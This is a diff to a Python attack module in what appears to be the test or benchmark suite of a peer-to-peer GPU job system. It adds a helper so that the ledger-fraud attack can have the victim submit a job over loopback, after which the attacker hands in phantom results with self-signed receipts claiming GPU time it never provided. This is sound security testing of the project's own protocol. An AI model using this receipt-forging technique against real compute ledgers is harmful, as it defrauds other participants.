@@ -4,13 +4,18 @@ The attacker claims one lease of the victim's job, then hands in a result for ev
 job (its own lease's lines and all the others), each with a receipt it signed claiming ``gpus``
 GPUs for ``hours`` hours. A submitter that counter-signs them credits the attacker in the ledger
 with GPU time it never gave (issue 16, item 5).
+
+Without a ``job_id`` the attack first has the victim's user submit a ``lines``-line job for
+``model`` over the victim's HTTP endpoint (loopback: what ``benchmarks/attacks.py`` does).
 """
 
 from __future__ import annotations
 
+import json
 import time
 from collections.abc import Sequence
 
+import httpx
 import trio
 
 from garage_p2p.core.jobs import PROTOCOL_JOBS, JobRequest, LeaseGrant, ResultsAck
@@ -24,19 +29,36 @@ from garage_p2p.mesh.streams import FrameStream, StreamBroken, close_quietly, wr
 from . import Target
 
 TIMEOUT = 10.0
+VICTIM = "consumer"
+"""The victim submits the job (benchmarks/attacks.py: V)."""
+
+
+async def submit_job(victim: Target, model: str, lines: int) -> tuple[str, list[str]]:
+    """A job of ``lines`` lines for ``model`` submitted on the victim's endpoint: (job id, custom ids)."""
+    custom_ids = [f"req-{i}" for i in range(lines)]
+    body = {"model": model, "messages": [{"role": "user", "content": "hi"}], "max_tokens": 2}
+    text = "\n".join(json.dumps({"custom_id": c, "url": "/v1/chat/completions", "body": body}) for c in custom_ids)
+    base = victim.api_url.removesuffix("/v1")
+    async with httpx.AsyncClient(timeout=TIMEOUT, trust_env=False) as http:
+        r = await http.post(f"{base}/garage/v1/jobs", json={"input": text, "shard_size": 5})
+    r.raise_for_status()
+    return r.json()["id"], custom_ids
 
 
 async def attack(
     attacker: Peer,
     victim: Target,
     *,
-    job_id: str,
-    model: str,
-    custom_ids: Sequence[str],
+    job_id: str | None = None,
+    model: str = "tiny",
+    custom_ids: Sequence[str] = (),
+    lines: int = 200,
     gpus: int = 64,
     hours: float = 24.0,
 ) -> dict[str, int | float | str]:
     """Claim a lease of ``job_id``, then hand in phantom results for every line (``custom_ids`` in input order)."""
+    if job_id is None:
+        job_id, custom_ids = await submit_job(victim, model, lines)
     me = attacker.identity
     end_ms = int(time.time() * 1000)
     start_ms = end_ms - int(hours * 3600 * 1000)
